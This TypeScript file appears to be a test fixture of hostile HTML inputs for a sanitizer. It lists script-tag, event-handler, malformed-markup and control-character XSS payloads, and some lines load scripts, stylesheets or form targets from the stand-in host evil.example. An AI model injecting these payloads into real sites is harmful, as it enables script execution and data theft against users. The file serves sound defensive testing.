// Hostile texts: what people try where HTML is accepted, one a line, in families.
import { lines, links } from './hostile-links.ts'

const scripts = lines(String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script src="https://evil.example/x.js"/>
<script
>alert(1)</script
>
<script>alert(1)
<script>alert(1)</script foo>
<script/xss>alert(1)</script>
<script type="text/javascript">/*<b>*/alert(1)</script>
<<script>alert(1);//<</script>
<<b>script>alert(1)<</b>/script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<scr<b></b>ipt>alert(1)</script>
<s<s<script>cript>cript>alert(1)
<<<b>b>script>alert(1)
<scri\0pt>alert(1)</scri\0pt>
<script>x</script><script>y</script>
</script><script>alert(1)</script>
<script><!--alert(1)--></script>
<!--<script>alert(1)</script>
<!--><script>alert(1)</script>-->
<!--!><script>alert(1)</script>
<!-- --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo '<script>alert(1)</script>' ?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<%<script>alert(1)</script>%>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<style>@import'//evil.example/x.css';</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<style></style onload=alert(1)>
<title><script>alert(1)</script></title>
<textarea><script>alert(1)</script></textarea>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)
<template><script>alert(1)</script></template>
<iframe><script>alert(1)</script></iframe>
<noembed><script>alert(1)</script></noembed>
<noframes><script>alert(1)</script></noframes>
`)

const handlers = lines(`
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img """><script>alert(1)</script>">
<img/src=x/onerror=alert(1)>
<img src="x" onerror = alert(1) //>
<image src=x onerror=alert(1)>
<IMG SRC=javascript:alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>
<math><a xlink:href=javascript:alert(1)>x</a></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<html onmousemove=alert(1)>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD4="></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<x onclick=alert(1)>click
<x-tag onclick=alert(1)>click</x-tag>
<b onclick=alert(1)>b</b>
<b/onclick=alert(1)>b</b>
<b onmouseover="alert(1)" style="x">b</b>
<p onclick=alert(1) id=x class=y>p</p>
<div style="background:url(javascript:alert(1))">d</div>
<div style="width:expression(alert(1))">d</div>
<span style=color:red onclick=alert(1)>s</span>
<ul onclick=alert(1)><li onclick=alert(1) value=3>l</li></ul>
<br onclick=alert(1)>
<br style="x" clear=all />
<em id="x" name="getElementById">e</em>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<form id=x></form><button form=x formaction="//evil.example">x</button>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=//evil.example>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta charset=utf-7>
<base href=//evil.example/>
<table background=javascript:alert(1)><tr><td>x</td></tr></table>
<dialog open onclose=alert(1)>x</dialog>
<slot onslotchange=alert(1)>x</slot>
`)

const broken = lines(String.raw`
<
<<
<<<<<<<<
</
</>
<>
< script>alert(1)</script>
< b >x< / b >
<b
<b x
<b x=
<b x="
<b x="y
<b><i>x</b></i>
<b><b><b>x
</b></i></p>
<p><div>x</p></div>
<ul><b><li>x</ul></b>
<li><li><li>
<a><a><a>x
<a href="https://elm.example"><a href="https://elm.example">x</a></a>
<p><p><p>x</p>
<b>x</b
<b>x</b y>
<b/>x
<br/><br></br><br />
<b =x>y</b>
<b "x">y</b>
<b '>y</b>
<b x='"'>y</b>
<b x="'">y</b>
<b>]]></b>
<!-->
<!--->
<!---->
<!--x
<!--x--!>y
<!x>y
<!>y
<?>y
<?x
<![CDATA[x
<![CDATA[x]]>]]>
<![if IE]><b>x</b><![endif]>
<!--[if IE]><script>alert(1)</script><![endif]-->
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;
&LT;b&GT;x&LT;/b&GT;
&ltscript&gt
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)
\x3cscript\x3e
+ADw-script+AD4-alert(1)
＜script＞alert(1)＜/script＞
‹script›alert(1)
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
--><script>alert(1)</script>
]]><script>alert(1)</script>
*/alert(1)/*
javascript:alert(1)
{{constructor.constructor('alert(1)')()}}
#{7*7} <%= 7*7 %> {7*7}
`)

/** What cannot stand on a line. */
const unprintable = [
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<\u0000script>alert(1)</script>',
  '<b\u0000>x</b\u0000>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="\u3000javascript:alert(1)">x</a>',
  '<a href="java\u200bscript:alert(1)">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<script\u000c>alert(1)</script\u000c>',
  '<img\u000bsrc=x\u000bonerror=alert(1)>',
  '<script\u2028>alert(1)</script>',
  '\ud83d<script>\udef6',
  '\ufeff<script>alert(1)</script>',
  '<\u0131mg src=x onerror=alert(1)>',
  '<\u017fcript>alert(1)</\u017fcript>',
  `${'<b>'.repeat(200)}deep${'</b>'.repeat(200)}`,
  `${'<'.repeat(40)}b>${'b>'.repeat(39)}x`,
  `<p ${'x=y '.repeat(400)}onclick=alert(1)>x</p>`,
]

export const hostile: readonly string[] = [...scripts, ...handlers, ...links, ...broken, ...unprintable]
